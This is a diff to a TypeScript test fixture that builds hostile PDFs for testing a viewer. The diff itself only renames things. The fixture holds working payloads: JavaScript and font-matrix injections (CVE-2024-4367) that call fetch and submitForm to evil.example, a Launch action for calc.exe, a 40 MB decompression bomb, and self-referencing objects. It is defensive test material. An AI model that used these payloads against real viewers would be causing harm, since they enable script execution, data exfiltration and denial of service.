@@ -1,8 +1,8 @@
 import { deflateSync } from 'node:zlib'
-import { fileOf } from '../pki/testing/pades-authorities.ts'
+import { fileOf } from '../../pki/testing/pades-authorities.ts'
 
-/** `only`: in `npm run test:all` alone, as another of its kind is shown by `npm test`. */
-type Hostile = { what: string; pdf: Uint8Array<ArrayBuffer>; drawn: boolean; only?: 'exhaustive' }
+/** `only`: in `npm run test:all` alone, because `npm test` has another one of its kind. */
+type Hostile = { what: string; pdf: Uint8Array<ArrayBuffer>; isShown: boolean; only?: 'exhaustive' }
 
 const text = 'BT /F1 24 Tf 72 720 Td (Umowa) Tj ET'
 const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
@@ -10,8 +10,8 @@ const call = `app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\); fe
 /** What CVE-2024-4367 ran: the number of a matrix that ended up in the source of a function. */
 const matrix = `[1 2 3 4 5 (0\\); document.title = 'run'; fetch\\('https://evil.example/font'\\)//)]`
 
-/** One page of text, with whatever a case puts around it. */
-function paper({
+/** One page of text, with the additions of a case. */
+function pdfWith({
   catalog = '',
   page = '',
   box = '0 0 595 842',
@@ -36,24 +36,24 @@ const form = '/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<<
 const type1 = '%!PS-AdobeFont-1.0: Evil\n/FontName /Evil def\n/FontMatrix [1 2 3 4 5 (0)] readonly def\n'
 const bomb = deflateSync(Buffer.alloc(40_000_000)).toString('latin1')
 
-/** What a PDF can try against whoever shows it; `drawn` says whether a first page is to be seen nevertheless. */
+/** Attacks of a PDF on its viewer; `isShown`: whether the first page is shown nevertheless. */
 export const hostilePdfs: Hostile[] = [
   {
     what: 'runs a script when it is opened',
-    pdf: paper({ catalog: `/OpenAction${script}/AA<</WC${script}>>/Names<</JavaScript<</Names[(a)${script}]>>>>` }),
-    drawn: true,
+    pdf: pdfWith({ catalog: `/OpenAction${script}/AA<</WC${script}>>/Names<</JavaScript<</Names[(a)${script}]>>>>` }),
+    isShown: true,
   },
   {
     what: 'sends itself, starts a program and opens an address',
-    pdf: paper({
+    pdf: pdfWith({
       catalog: '/OpenAction<</S/URI/URI(https://evil.example/open)>>',
       page: link('<</S/SubmitForm/F(https://evil.example/form)/Next<</S/Launch/F(calc.exe)>>>>'),
     }),
-    drawn: true,
+    isShown: true,
   },
   {
     what: 'has its content in another file',
-    pdf: paper({
+    pdf: pdfWith({
       page: '/Group<</S/Transparency>>',
       content: `${text} /X Do`,
       more: [
@@ -63,60 +63,60 @@ export const hostilePdfs: Hostile[] = [
         ],
       ],
     }),
-    drawn: true,
+    isShown: true,
   },
   {
     what: 'has a program as the matrix of its font (CVE-2024-4367)',
-    pdf: paper({
+    pdf: pdfWith({
       f1: `<</Type/Font/Subtype/Type1/BaseFont/Evil/FirstChar 32/LastChar 126/FontMatrix ${matrix}/FontDescriptor 6 0 R>>`,
       more: [
         `<</Type/FontDescriptor/FontName/Evil/Flags 4/FontMatrix ${matrix}/FontFile 7 0 R>>`,
         [`<</Length ${type1.length}/Length1 ${type1.length}/Length2 0/Length3 0>>`, type1],
       ],
     }),
-    drawn: true,
+    isShown: true,
   },
   {
     what: 'has a program as the matrix of a font of drawings',
-    pdf: paper({
+    pdf: pdfWith({
       f1: `<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix ${matrix}/FirstChar 85/LastChar 85/Widths[1]/CharProcs<</U 6 0 R>>/Encoding<</Differences[85/U]>>>>`,
       more: [['<</Length 22>>', '1 0 d0 0 0 1 1 re f   ']],
     }),
-    drawn: true,
+    isShown: true,
   },
   {
     what: 'says that its page is a thousand kilometres wide',
-    pdf: paper({ box: '0 0 9e11 3e11', page: '/UserUnit 9e9' }),
-    drawn: true,
+    pdf: pdfWith({ box: '0 0 9e11 3e11', page: '/UserUnit 9e9' }),
+    isShown: true,
     only: 'exhaustive',
   },
-  { what: 'says that its page is a line', pdf: paper({ box: '0 0 1 1e9' }), drawn: true, only: 'exhaustive' },
+  { what: 'says that its page is a line', pdf: pdfWith({ box: '0 0 1 1e9' }), isShown: true, only: 'exhaustive' },
   {
     what: 'draws itself in itself',
-    pdf: paper({ content: `${text} /X Do`, more: [[`<<${form}/Length 5>>`, '/X Do']] }),
-    drawn: true,
+    pdf: pdfWith({ content: `${text} /X Do`, more: [[`<<${form}/Length 5>>`, '/X Do']] }),
+    isShown: true,
   },
   {
     what: 'unpacks to forty megabytes of nothing',
-    pdf: paper({ content: `${text} /X Do`, more: [[`<<${form}/Filter/FlateDecode/Length ${bomb.length}>>`, bomb]] }),
-    drawn: true,
+    pdf: pdfWith({ content: `${text} /X Do`, more: [[`<<${form}/Filter/FlateDecode/Length ${bomb.length}>>`, bomb]] }),
+    isShown: true,
   },
   {
     what: 'has metadata that unpack to forty megabytes',
-    pdf: paper({
+    pdf: pdfWith({
       catalog: '/Metadata 6 0 R',
       more: [[`<</Type/Metadata/Subtype/XML/Filter/FlateDecode/Length ${bomb.length}>>`, bomb]],
     }),
-    drawn: true,
+    isShown: true,
     only: 'exhaustive',
   },
-  { what: 'breaks off', pdf: paper().slice(0, 60), drawn: false, only: 'exhaustive' },
-  { what: 'is no PDF', pdf: new TextEncoder().encode('<script>alert(1)</script>'), drawn: false },
-  { what: 'is empty', pdf: new Uint8Array(), drawn: false, only: 'exhaustive' },
+  { what: 'breaks off', pdf: pdfWith().slice(0, 60), isShown: false, only: 'exhaustive' },
+  { what: 'is not a PDF', pdf: new TextEncoder().encode('<script>alert(1)</script>'), isShown: false },
+  { what: 'is empty', pdf: new Uint8Array(), isShown: false, only: 'exhaustive' },
   {
     what: 'has pages in a ring',
     pdf: fileOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 9/Kids[2 0 R]>>']),
-    drawn: false,
+    isShown: false,
     only: 'exhaustive',
   },
 ]
